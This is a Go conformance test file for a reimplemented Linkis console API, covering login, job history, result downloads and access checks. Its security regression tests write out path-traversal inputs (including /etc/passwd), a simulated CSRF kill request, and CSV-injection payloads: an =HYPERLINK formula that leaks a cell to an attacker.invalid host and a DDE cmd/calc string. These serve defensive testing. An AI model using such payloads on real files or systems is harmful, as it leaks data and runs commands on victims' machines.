package restapi_test

import (
	"bufio"
	"bytes"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// consoleState is what the console's pages keep.
type consoleState struct {
	ops, alice, bob                  *client
	aliceTask, aliceExec             string
	aliceRunning, bobRunning         [2]string // execID, taskID
	logPath, resultLocation, setPath string
}

// The management console (apache/linkis linkis-web): its login page
// (src/dss/view/login/index.vue), the global history and its admin view
// (src/apps/linkis/module/globalHistoryManagement/index.vue), a job's
// page with its log, results and downloads (viewHistory.vue), through
// the axios wrapper that reads status, message and data
// (src/common/service/api.js: -1 sends the user to the login page).
func TestConformanceConsole(t *testing.T) {
	s := conformanceServer(t)
	st := &consoleState{ops: s.newClient(t, nil), alice: s.newClient(t, nil), bob: s.newClient(t, nil)}
	submit := func(t *testing.T, c *client, user, code, engine string) (string, string) {
		t.Helper()
		a := c.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},`+
			`"labels":{"engineType":"`+engine+`","userCreator":"`+user+`-IDE"}}`)
		a.ok(t)
		return str(t, a.Data, "execID"), idOf(t, a.Data, "taskID")
	}
	steps := []struct {
		name, linkis string
		run          func(t *testing.T, st *consoleState)
	}{
		{"publicKey then login", "linkis-web/src/dss/view/login/index.vue (getPublicKey, handleSubmit)",
			func(t *testing.T, st *consoleState) {
				pk := st.ops.do("GET", "/user/publicKey", nil, "")
				pk.ok(t)
				if boolean(t, pk.Data, "enableLoginEncrypt") {
					t.Fatal("enableLoginEncrypt: the console would RSA-encrypt the password")
				}
				a := st.ops.do("POST", "/user/login", nil, `{"userName":"ops","password":"`+opsPassword+`"}`)
				a.ok(t)
				if str(t, a.Data, "userName") != "ops" || !boolean(t, a.Data, "isAdmin") {
					t.Fatalf("login %v", a.Data)
				}
				boolean(t, a.Data, "enableWatermark")
				st.alice.login("alice", alicePassword).ok(t)
				st.bob.login("bob", bobPassword).ok(t)
			}},
		{"a wrong password", "linkis-web/src/common/service/api.js (a status other than 0 shows message)",
			func(t *testing.T, st *consoleState) {
				c := conformanceServer(t).newClient(t, nil)
				a := c.do("POST", "/user/login", nil, `{"userName":"alice","password":"nope"}`)
				if a.status(t) == 0 || a.status(t) == -1 || a.Message == "" || strings.Contains(a.Message, "nope") {
					t.Fatalf("wrong password: %d %q", a.status(t), a.Message)
				}
				if strings.Contains(a.header.Get("Set-Cookie"), "linkis_user_session_ticket_id_v1=") {
					t.Fatal("a refused login set a session cookie")
				}
			}},
		{"governanceStationAdmin", "globalHistoryManagement/index.vue created()",
			func(t *testing.T, st *consoleState) {
				for c, want := range map[*client]bool{st.ops: true, st.alice: false} {
					a := c.do("GET", "/jobhistory/governanceStationAdmin", nil, "")
					a.ok(t)
					if boolean(t, a.Data, "admin") != want || boolean(t, a.Data, "historyAdmin") != want || boolean(t, a.Data, "deptAdmin") {
						t.Fatalf("admin flags %v, want %v", a.Data, want)
					}
				}
			}},
		{"jobs to look at", "",
			func(t *testing.T, st *consoleState) {
				st.aliceExec, st.aliceTask = submit(t, st.alice, "alice", "select 1 as one, null as nada, '' as empty", "sql-1")
				st.aliceRunning[0], st.aliceRunning[1] = submit(t, st.alice, "alice", "sleep 60", "shell-1")
				st.bobRunning[0], st.bobRunning[1] = submit(t, st.bob, "bob", "sleep 60", "shell-1")
				task := st.alice.waitEnded(st.aliceTask)
				if str(t, task, "status") != "Succeed" {
					t.Fatalf("job %v", task)
				}
				st.logPath, st.resultLocation = str(t, task, "logPath"), str(t, task, "resultLocation")
			}},
		{"the admin view of every user's history", "globalHistoryManagement/index.vue getParams, getList",
			func(t *testing.T, st *consoleState) {
				now := time.Now()
				q := url.Values{"pageNow": {"1"}, "pageSize": {"50"}, "proxyUser": {"alice"}, "isAdminView": {"true"}, "isDeptView": {"false"},
					"instance": {""}, "startDate": {strconv.FormatInt(now.Add(-time.Hour).UnixMilli(), 10)}, "endDate": {strconv.FormatInt(now.Add(time.Hour).UnixMilli(), 10)}}
				a := st.ops.do("GET", "/jobhistory/list", q, "")
				a.ok(t)
				tasks := list(t, a.Data, "tasks")
				if len(tasks) < 2 || num(t, a.Data, "totalPage") < 2 {
					t.Fatalf("ops sees %d of alice's jobs", len(tasks))
				}
				for _, x := range tasks {
					task := x.(map[string]any)
					if str(t, task, "umUser") != "alice" || str(t, task, "instance") == "" || str(t, task, "executeUser") != "alice" {
						t.Fatalf("task %v", task) // killJobs groups by instance; an empty one is never killed
					}
					str(t, task, "strongerExecId")
					num(t, task, "costTime")
					long(t, task, "createdTime")
					str(t, task, "sourceTailor")
				}
				// Everyone's, without proxyUser.
				q.Del("proxyUser")
				all := st.ops.do("GET", "/jobhistory/list", q, "")
				users := map[string]bool{}
				for _, x := range list(t, all.Data, "tasks") {
					users[str(t, x.(map[string]any), "umUser")] = true
				}
				if !users["alice"] || !users["bob"] {
					t.Fatalf("the admin view shows %v", users)
				}
				// A user who is no administrator asking for it sees only their own.
				b := st.bob.do("GET", "/jobhistory/list", q, "")
				b.ok(t)
				for _, x := range list(t, b.Data, "tasks") {
					if u := str(t, x.(map[string]any), "umUser"); u != "bob" {
						t.Fatalf("bob's admin view shows %s's job", u)
					}
				}
			}},
		{"a job's page: record, log, results", "globalHistoryManagement/viewHistory.vue initHistory, getLogs, getResult",
			func(t *testing.T, st *consoleState) {
				st.ops.do("GET", "/jobhistory/"+st.aliceTask+"/get", nil, "").ok(t) // an admin opens anyone's
				if a := st.bob.do("GET", "/jobhistory/"+st.aliceTask+"/get", nil, ""); a.status(t) != 3 {
					t.Fatalf("bob opens alice's job: %d %q", a.status(t), a.Message)
				}
				l := st.ops.do("GET", "/filesystem/openLog", url.Values{"path": {st.logPath}, "proxyUser": {"alice"}}, "")
				l.ok(t)
				strings4(t, l.Data, "log")
				// Running: the entrance log with fromLine and size.
				r := st.alice.do("GET", "/entrance/"+st.aliceRunning[0]+"/log", url.Values{"fromLine": {"1"}, "size": {"10000"}}, "")
				r.ok(t)
				integer(t, r.Data, "fromLine")
				d := st.alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {st.resultLocation}}, "")
				d.ok(t)
				ch := list(t, obj(t, d.Data, "dirFileTrees"), "children")
				name := str(t, ch[0].(map[string]any), "name")
				// sort: parseInt(a.name.split('_')[1].split('.')[0], 10)
				if parts := strings.Split(name, "_"); len(parts) < 2 || strings.Split(parts[1], ".")[0] != "0" {
					t.Fatalf("result file name %q", name)
				}
				st.setPath = str(t, ch[0].(map[string]any), "path")
				f := st.alice.do("GET", "/filesystem/openFile", url.Values{"path": {st.setPath}, "page": {"1"}, "enableLimit": {"true"}, "pageSize": {"5000"}}, "")
				f.ok(t)
				rows := list(t, f.Data, "fileContent")
				// No nullValue: a null shows as "NULL" and an empty string stays empty.
				if len(rows) != 1 || rows[0].([]any)[0] != "1" || rows[0].([]any)[1] != "NULL" || rows[0].([]any)[2] != "" {
					t.Fatalf("rows %v", rows)
				}
				list(t, f.Data, "metadata")
				integer(t, f.Data, "totalLine")
			}},
		{"killJobs: one's own killed, another's refused", "globalHistoryManagement/index.vue stop(), EntranceRestfulApi.killJobs",
			func(t *testing.T, st *consoleState) {
				body := `{"idList":["` + st.bobRunning[0] + `","` + st.aliceRunning[0] + `"],"taskIDList":[` + st.bobRunning[1] + `,` + st.aliceRunning[1] + `]}`
				a := st.bob.do("POST", "/entrance/"+st.bobRunning[0]+"/killJobs", nil, body)
				a.ok(t)
				msgs := list(t, a.Data, "messages")
				if len(msgs) != 2 {
					t.Fatalf("messages %v", msgs)
				}
				m0, m1 := msgs[0].(map[string]any), msgs[1].(map[string]any)
				if integer(t, m0, "status") != 0 || integer(t, m1, "status") == 0 || !strings.Contains(str(t, m1, "message"), "not your job") {
					t.Fatalf("messages %v", msgs)
				}
				if s := str(t, st.bob.waitEnded(st.bobRunning[1]), "status"); s != "Cancelled" {
					t.Fatalf("bob's job %s", s)
				}
				if s := str(t, obj(t, st.alice.do("GET", "/jobhistory/"+st.aliceRunning[1]+"/get", nil, "").Data, "task"), "status"); s == "Cancelled" {
					t.Fatal("bob killed alice's job")
				}
				// An administrator kills anyone's.
				k := st.ops.do("POST", "/entrance/"+st.aliceRunning[0]+"/killJobs", nil, `{"idList":["`+st.aliceRunning[0]+`"],"taskIDList":[`+st.aliceRunning[1]+`]}`)
				k.ok(t)
				if integer(t, list(t, k.Data, "messages")[0].(map[string]any), "status") != 0 {
					t.Fatalf("ops's kill: %v", k.Data)
				}
				if s := str(t, st.alice.waitEnded(st.aliceRunning[1]), "status"); s != "Cancelled" {
					t.Fatalf("alice's job after ops's kill: %s", s)
				}
			}},
		{"download as CSV", "FsRestfulApi.resultsetToExcel (outputFileType=csv)",
			func(t *testing.T, st *consoleState) {
				a := st.alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {st.setPath}, "charset": {"utf-8"}, "outputFileType": {"csv"},
					"csvSeperator": {","}, "outputFileName": {"r"}, "nullValue": {"NULL"}}, "")
				if a.http != 200 || string(a.raw) != "one,nada,empty\n1,NULL,\n" {
					t.Fatalf("csv HTTP %d:\n%s", a.http, a.raw)
				}
				if cd := a.header.Get("Content-Disposition"); !strings.Contains(cd, "attachment;filename=\"r.csv\"") {
					t.Fatalf("Content-Disposition %q", cd)
				}
				masked := st.alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {st.setPath}, "maskedFieldNames": {"nada"},
					"csvSeparator": {";"}, "quoteRetouchEnable": {"true"}, "nullValue": {"BLANK"}}, "")
				if string(masked.raw) != "\"one\";\"empty\"\n\"1\";\"\"\n" {
					t.Fatalf("masked csv:\n%s", masked.raw)
				}
			}},
		{"download as XLSX", "FsRestfulApi.resultsetToExcel (outputFileType=xlsx), resultsetsToExcel",
			func(t *testing.T, st *consoleState) {
				for path, q := range map[string]url.Values{
					"/filesystem/resultsetToExcel":  {"path": {st.setPath}, "outputFileType": {"xlsx"}, "sheetName": {"result"}},
					"/filesystem/resultsetsToExcel": {"path": {st.resultLocation}, "outputFileName": {"all"}},
				} {
					a := st.alice.do("GET", path, q, "")
					if a.http != 200 || !strings.HasPrefix(a.header.Get("Content-Type"), "application/vnd.openxmlformats") {
						t.Fatalf("%s: HTTP %d %s", path, a.http, a.raw)
					}
					f, err := excelize.OpenReader(bytes.NewReader(a.raw))
					if err != nil {
						t.Fatal(err)
					}
					rows, err := f.GetRows(f.GetSheetList()[0])
					f.Close()
					if err != nil || len(rows) != 2 || strings.Join(rows[0], ",") != "one,nada,empty" || rows[1][0] != "1" || rows[1][1] != "NULL" {
						t.Fatalf("%s: rows %q %v", path, rows, err)
					}
				}
			}},
		{"listundone", "QueryRestfulApi.listundone",
			func(t *testing.T, st *consoleState) {
				a := st.alice.do("GET", "/jobhistory/listundone", nil, "")
				a.ok(t)
				integer(t, a.Data, "totalPage")
			}},
		{"files that are not the user's", "FsRestfulApi.checkIsUsersDirectory",
			func(t *testing.T, st *consoleState) {
				for _, c := range []struct {
					path string
					q    url.Values
				}{
					{"/filesystem/openFile", url.Values{"path": {st.setPath}}},
					{"/filesystem/resultsetToExcel", url.Values{"path": {st.setPath}}},
					{"/filesystem/resultsetsToExcel", url.Values{"path": {st.resultLocation}}},
					{"/filesystem/getDirFileTrees", url.Values{"path": {st.resultLocation}}},
					{"/filesystem/openLog", url.Values{"path": {st.logPath}}},
					{"/filesystem/openLog", url.Values{"path": {strings.Replace(st.logPath, "/alice/", "/bob/../alice/", 1)}}},
					{"/filesystem/openFile", url.Values{"path": {strings.Replace(st.setPath, "/alice/", "/%61lice/", 1)}}},
					{"/filesystem/openFile", url.Values{"path": {"/etc/passwd"}}},
					{"/filesystem/getDirFileTrees", url.Values{"path": {"file:///tmp/linkis/alice"}}},
				} {
					a := st.bob.do("GET", c.path, c.q, "")
					if a.status(t) != 3 || a.http != 403 || strings.Contains(string(a.raw), "select 1") {
						t.Errorf("bob: %s %v: status %d HTTP %d %q", c.path, c.q, a.status(t), a.http, a.Message)
					}
				}
			}},
		{"heartbeat, logout, heartbeat", "UserRestful.heartbeat, logout; api.js error -1",
			func(t *testing.T, st *consoleState) {
				st.alice.do("GET", "/user/heartbeat", nil, "").ok(t)
				u := st.alice.do("GET", "/user/userInfo", nil, "")
				u.ok(t)
				if str(t, u.Data, "userName") != "alice" {
					t.Fatalf("userInfo %v", u.Data)
				}
				st.alice.do("POST", "/user/logout", nil, "{}").ok(t)
				if a := st.alice.do("GET", "/user/heartbeat", nil, ""); a.status(t) != -1 || a.http != 401 {
					t.Fatalf("heartbeat after logout: %d HTTP %d", a.status(t), a.http)
				}
				forged := conformanceServer(t).newClient(t, map[string]string{"Cookie": "linkis_user_session_ticket_id_v1=" + strings.Repeat("A", 43)})
				if a := forged.do("GET", "/jobhistory/list", nil, ""); a.status(t) != -1 || a.http != 401 {
					t.Fatalf("a forged session: %d HTTP %d", a.status(t), a.http)
				}
			}},
	}
	for _, step := range steps {
		if !t.Run(step.name, func(t *testing.T) { step.run(t, st) }) {
			t.Fatalf("step %q failed (Linkis: %s); the later steps need it", step.name, step.linkis)
		}
	}
}

// A page of another site cannot make a browser kill a job with its
// session cookie (a regression test of the security review: a link or
// redirect - a top-level GET, on which a SameSite=Lax cookie is sent -
// killed the victim's job, an administrator's anyone's). The cookie is
// SameSite=Strict, and a request authenticated by cookie that changes
// something is refused when Sec-Fetch-Site says another site made it;
// the console's own requests (same-origin) and reads are served, and so
// are clients that send the token headers - Linkis's SDK does
// (linkis-spring-cloud-services/linkis-service-gateway/
// linkis-gateway-httpclient-support/src/main/scala/org/apache/linkis/
// httpclient/dws/authentication/TokenAuthenticationStrategy.scala:
// authToHeaders) - or a cookie jar without Sec-Fetch headers, as the SDK's
// static login and linkis-cli do.
func TestCrossSiteGETDoesNotKill(t *testing.T) {
	s := conformanceServer(t)
	alice := s.newClient(t, nil)
	login := alice.login("alice", alicePassword)
	login.ok(t)
	var sameSite string
	for _, c := range (&http.Response{Header: login.header}).Cookies() {
		if c.Name == "linkis_user_session_ticket_id_v1" {
			sameSite = map[http.SameSite]string{http.SameSiteLaxMode: "Lax", http.SameSiteStrictMode: "Strict", http.SameSiteNoneMode: "None"}[c.SameSite]
		}
	}
	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":"sleep 30"},"labels":{"engineType":"shell-1","userCreator":"alice-IDE"}}`)
	a.ok(t)
	exec, taskID := str(t, a.Data, "execID"), idOf(t, a.Data, "taskID")
	// What the browser sends when a page of another site navigates to it:
	// the cookie (Lax allows it on a top-level GET), and Sec-Fetch-* saying
	// where it comes from.
	browser := &client{t: t, base: alice.base, hc: alice.hc, headers: map[string]string{
		"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Referer": "https://attacker.invalid/"}}
	if sameSite != "Strict" {
		t.Errorf("the session cookie is SameSite=%s, want Strict", sameSite)
	}
	k := browser.do("GET", "/entrance/"+exec+"/kill", nil, "")
	st := alice.do("GET", "/jobhistory/"+taskID+"/get", nil, "")
	st.ok(t)
	if got := str(t, obj(t, st.Data, "task"), "status"); got == "Cancelled" || k.http != http.StatusForbidden {
		t.Errorf("a cross-site top-level GET with the %s session cookie: HTTP %d %q, the job %s", sameSite, k.http, k.Message, got)
	}
	// A form another site posts, or a sibling host's page: refused too.
	browser.headers["Sec-Fetch-Site"] = "same-site"
	if kj := browser.do("POST", "/entrance/"+exec+"/killJobs", nil, `{"idList":["`+exec+`"],"taskIDList":[`+taskID+`]}`); kj.http != http.StatusForbidden {
		t.Errorf("a same-site POST of killJobs with the session cookie: HTTP %d %q", kj.http, kj.Message)
	}
	// A cross-site read is served: it changes nothing, and the answer
	// goes to the browser's user, not the other site.
	browser.headers["Sec-Fetch-Site"] = "cross-site"
	browser.do("GET", "/entrance/"+exec+"/status", nil, "").ok(t)
	// The console's own kill (same-origin) works.
	console := &client{t: t, base: alice.base, hc: alice.hc, headers: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}}
	console.do("GET", "/entrance/"+exec+"/kill", nil, "").ok(t)
	if got := str(t, alice.waitEnded(taskID), "status"); got != "Cancelled" {
		t.Errorf("after the console's kill the job is %s", got)
	}
}

// A CSV download writes a text cell that a spreadsheet would take for a
// formula - beginning with '=', '+', '-', '@', a tab or a carriage return
// - after a "'", which spreadsheets read as "text" (OWASP's CSV
// injection); numbers, negative ones too, stay as they are, and so does
// the rest of the text (a regression test of the security review: data
// of a shared table, or another user's result an administrator exports,
// ran as a formula on the downloader's machine - =HYPERLINK to leak the
// sheet, DDE on older Excel). XLSX downloads write strings as strings.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	s := conformanceServer(t)
	alice := s.newClient(t, nil)
	alice.login("alice", alicePassword).ok(t)
	code := `select '=HYPERLINK("http://attacker.invalid/?"&B2,"open")' as f, '@SUM(1+1)*cmd|'' /C calc''!A0' as g, '+1+2' as h, 'plain' as p, -7 as n, '-x' as "-c"`
	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},"labels":{"engineType":"sql-1","userCreator":"alice-IDE"}}`)
	a.ok(t)
	task := alice.waitEnded(idOf(t, a.Data, "taskID"))
	if str(t, task, "status") != "Succeed" {
		t.Fatalf("job %v", task)
	}
	d := alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {str(t, task, "resultLocation")}}, "")
	d.ok(t)
	set := str(t, list(t, obj(t, d.Data, "dirFileTrees"), "children")[0].(map[string]any), "path")
	csv := alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {set}, "outputFileType": {"csv"}}, "")
	if csv.http != 200 {
		t.Fatalf("download: HTTP %d %s", csv.http, csv.raw)
	}
	sc := bufio.NewScanner(strings.NewReader(string(csv.raw)))
	sc.Scan() // the header
	if !sc.Scan() {
		t.Fatalf("no row in %q", csv.raw)
	}
	row := sc.Text()
	t.Logf("row as downloaded: %s", row)
	for _, field := range splitCSV(row) {
		if field != "" && strings.ContainsRune("=+-@", rune(field[0])) && field != "-7" {
			t.Errorf("cell %q is written as a spreadsheet formula", field)
		}
	}
	if !strings.HasPrefix(row, `"'=HYPERLINK(`) {
		t.Errorf("the quoted cell begins %q: the guard goes inside the quotes", row[:min(len(row), 14)])
	}
	want := []string{`'=HYPERLINK("http://attacker.invalid/?"&B2,"open")`, `'@SUM(1+1)*cmd|' /C calc'!A0`, "'+1+2", "plain", "-7", "'-x"}
	if got := splitCSV(row); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
		t.Errorf("row %q, want %q", got, want)
	}
	header := strings.SplitN(string(csv.raw), "\n", 2)[0]
	if !strings.HasSuffix(header, ",'-c") {
		t.Errorf("a column named -c heads the file as %q", header)
	}
}

// splitCSV splits one CSV line into its fields, unquoted.
func splitCSV(line string) []string {
	var out []string
	var b strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
			b.WriteByte('"')
			i++
		case c == '"':
			quoted = !quoted
		case c == ',' && !quoted:
			out = append(out, b.String())
			b.Reset()
		default:
			b.WriteByte(c)
		}
	}
	return append(out, b.String())
}
